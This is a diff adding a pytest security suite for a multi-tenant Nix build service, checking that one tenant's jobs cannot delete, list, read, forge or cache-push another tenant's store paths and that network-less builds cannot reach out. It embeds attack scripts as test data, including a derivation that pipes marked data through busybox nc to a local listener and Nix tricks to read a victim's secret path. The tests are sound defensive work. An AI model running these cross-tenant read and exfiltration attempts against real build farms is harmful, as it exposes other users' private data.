@@ -1,0 +1,207 @@
+"""A job's Nix is its own: it cannot delete, collect, list or read other tenants' store
+paths, and its builds have no network when the job has none (issue 12, points 1-3)."""
+
+from __future__ import annotations
+
+import hashlib
+import re
+import socket
+import subprocess
+import threading
+import uuid
+from collections.abc import Iterator
+
+import pytest
+
+from tests.security.conftest import Tenant
+
+BUSYBOX = 'bb=$(readlink -f /bin/busybox | cut -d/ -f1-4)'
+
+
+def statuses(log: str) -> dict[str, int]:
+    """``name=status`` lines the attack scripts print (not their ``set -x`` echo)."""
+    return {m.group(1): int(m.group(2)) for m in re.finditer(r"^(\w+)=(\d+)$", log, re.M)}
+
+
+def attempt(name: str, command: str) -> str:
+    """A shell line that runs ``command`` and prints ``name=<its status>``."""
+    return f"if {command}; then echo {name}=0; else echo {name}=$?; fi\n"
+
+
+def host_valid(path: str) -> bool:
+    return subprocess.run(["nix-store", "--check-validity", path],
+                          capture_output=True).returncode == 0
+
+
+def added_by(tenant: Tenant, content: str) -> str:
+    """A store path ``tenant``'s job adds holding ``content`` (left in the host's store)."""
+    job, log = tenant.run({"add": f"printf '%s' '{content}' > f\n"
+                                  "echo ADDED $(nix-store --add f)\n"})
+    assert job["status"] == "success", log
+    (path,) = set(re.findall(r"^ADDED (/nix/store/\S+)$", log, re.M))
+    assert host_valid(path)
+    return str(path)
+
+
+def test_a_job_cannot_delete_collect_or_list_the_store(alice: Tenant, mallory: Tenant) -> None:
+    victim = added_by(alice, f"alice-work-{uuid.uuid4().hex}")
+    script = (attempt("delete", f"nix-store --delete {victim}")
+              + attempt("roots", "nix-store --gc --print-roots")
+              + attempt("dead", "nix-store --gc --print-dead")
+              + attempt("all", "nix --extra-experimental-features nix-command path-info --all")
+              + attempt("valid", f"nix-store --check-validity {victim}"))
+    job, log = mallory.run({"attack": script})
+    assert job["status"] == "success", log
+    found = statuses(log)
+    assert set(found) == {"delete", "roots", "dead", "all", "valid"}, log
+    assert all(status != 0 for status in found.values()), log
+    assert "CollectGarbage is not available to jobs" in log
+    assert "FindRoots is not available to jobs" in log
+    assert "QueryAllValidPaths is not available to jobs" in log
+    assert host_valid(victim)  # still there for alice's next job and her cache push
+    # The listing did not happen: no path of the host's store is in the log but the
+    # attacked one and the job's own.
+    assert "/proc" not in log and "gcroots" not in log
+
+
+READ_NIX = """\
+{ bb, p }:
+let b = builtins.storePath bb; in
+derivation {
+  name = "peek"; system = builtins.currentSystem; builder = "${b}/bin/sh";
+  args = [ "-c" "${b}/bin/cat ${builtins.storePath p}; ${b}/bin/mkdir $out" ];
+}
+"""
+
+
+def test_a_job_cannot_read_another_tenants_store_path(alice: Tenant, mallory: Tenant) -> None:
+    secret = f"alice-secret-{uuid.uuid4().hex}"
+    victim = added_by(alice, secret)
+    script = (f"cat > read.nix <<'EOF'\n{READ_NIX}EOF\n{BUSYBOX}\n"
+              + attempt("build", f'nix-build read.nix --argstr bb "$bb" --argstr p {victim}')
+              + attempt("realise", f"nix-store --realise {victim}")
+              + attempt("refs", f"nix-store --query --references {victim}"))
+    job, log = mallory.run({"peek": script})
+    assert job["status"] == "success", log
+    found = statuses(log)
+    assert set(found) == {"build", "realise", "refs"}, log
+    assert all(status != 0 for status in found.values()), log
+    assert secret not in log
+    assert f"{victim} is not a store path of this job" in log
+
+    # Her own job may use it, as before: same owner, its own path.
+    own = (f"cat > read.nix <<'EOF'\n{READ_NIX}EOF\n{BUSYBOX}\n"
+           f"printf '%s' '{secret}' > f\np=$(nix-store --add f)\n"
+           'nix-build read.nix --argstr bb "$bb" --argstr p "$p"\n')
+    job, log = alice.run({"own": own})
+    assert job["status"] == "success", log
+
+
+def test_a_job_can_still_build_and_query_its_own_paths(mallory: Tenant) -> None:
+    marker = uuid.uuid4().hex
+    script = (f"{BUSYBOX}\n"
+              f"cat > own.nix <<'EOF'\n{{ bb }}:\nderivation {{ name = \"own-{marker}\"; "
+              "system = builtins.currentSystem; builder = \"${builtins.storePath bb}/bin/sh\";"
+              f" args = [ \"-c\" \"echo {marker} > $out\" ]; }}\nEOF\n"
+              'out=$(nix-build own.nix --argstr bb "$bb")\n'
+              "nix-store --check-validity $out\n"
+              "nix-store -qR $out\n")
+    job, log = mallory.run({"own": script})
+    assert job["status"] == "success", log
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[bytes]]]:
+    """A TCP listener on the host's 127.0.0.1; what connects is recorded."""
+    got: list[bytes] = []
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(5)
+    server.settimeout(0.2)
+    done = threading.Event()
+
+    def accept() -> None:
+        while not done.is_set():
+            try:
+                conn, _ = server.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                try:
+                    got.append(conn.recv(4096) or b"(connected)")
+                except OSError:
+                    got.append(b"(connected)")
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], got
+    done.set()
+    thread.join()
+    server.close()
+
+
+FOD_NIX = """\
+{ bb, port, marker }:
+derivation {
+  name = "fetch-${marker}"; system = builtins.currentSystem;
+  builder = "${builtins.storePath bb}/bin/sh";
+  args = [ "-c" ''
+    echo exfiltrated-${marker} | ${builtins.storePath bb}/bin/nc 127.0.0.1 ${port}
+    ${builtins.storePath bb}/bin/cat /proc/net/dev
+    echo x > $out
+  '' ];
+  outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "@HASH@";
+}
+"""
+
+
+def test_fixed_output_builds_of_a_job_without_network_have_none(
+        mallory: Tenant, listener: tuple[int, list[bytes]]) -> None:
+    port, got = listener
+    marker = uuid.uuid4().hex[:12]
+    nix = FOD_NIX.replace("@HASH@", hashlib.sha256(b"x\n").hexdigest())
+    script = (f"{BUSYBOX}\ncat > fod.nix <<'EOF'\n{nix}EOF\n"
+              f'nix-build fod.nix --argstr bb "$bb" --argstr port {port} '
+              f"--argstr marker {marker}\n")
+    job, log = mallory.run({"fetch": script})
+    assert job["status"] == "success", log  # it built, without the network
+    assert got == [], got
+    interfaces = re.findall(r"^\s*([\w-]+):\s+\d", log, re.M)
+    assert interfaces and set(interfaces) <= {"lo"}, log
+
+
+def test_cache_push_takes_only_the_jobs_own_paths(alice: Tenant, mallory: Tenant) -> None:
+    farm = mallory.farm
+    victim = added_by(alice, f"alice-pushed-{uuid.uuid4().hex}")
+    cache, _ = farm.create_cache()
+    pusher = farm.cli("token", "create", "--name", f"pusher-{uuid.uuid4().hex[:6]}",
+                      "--scope", "jobs:submit", "--scope", f"cache:{cache}:push"
+                      ).stdout.strip()
+    thief = Tenant(farm, "thief", pusher)
+    job, log = thief.run({"link": f"ln -s {victim} result\n"}, f"cache: {cache}\n")
+    assert job["status"] == "failed", log
+    assert f"points at {victim}, which is not a store path of this job" in job["reason"]
+    narinfo = farm.get(f"/cache/{cache}/{victim.split('/')[3][:32]}.narinfo")
+    assert narinfo.status_code == 404
+
+
+def test_a_forged_derivation_does_not_open_another_tenants_path(alice: Tenant,
+                                                              mallory: Tenant) -> None:
+    secret = f"alice-forged-{uuid.uuid4().hex}"
+    victim = added_by(alice, secret)
+    # A .drv text naming her path as its output: the daemon refuses to register it,
+    # and the proxy must not take the output from the text alone.
+    forged = (f'builtins.toFile "forged.drv" '
+              f'"Derive([(\\"out\\",\\"{victim}\\",\\"\\",\\"\\")],[],[],'
+              f'\\"x86_64-linux\\",\\"/bin/sh\\",[],[])"')
+    script = (f"cat > forged.nix <<'EOF'\n{forged}\nEOF\n"
+              + attempt("forge", "nix-instantiate --eval --read-write-mode forged.nix")
+              + f"cat > read.nix <<'EOF'\n{READ_NIX}EOF\n{BUSYBOX}\n"
+              + attempt("build", f'nix-build read.nix --argstr bb "$bb" --argstr p {victim}')
+              + attempt("valid", f"nix-store --check-validity {victim}"))
+    job, log = mallory.run({"forge": script})
+    assert job["status"] == "success", log
+    found = statuses(log)
+    assert found["forge"] != 0 and found["build"] != 0 and found["valid"] != 0, log
+    assert secret not in log
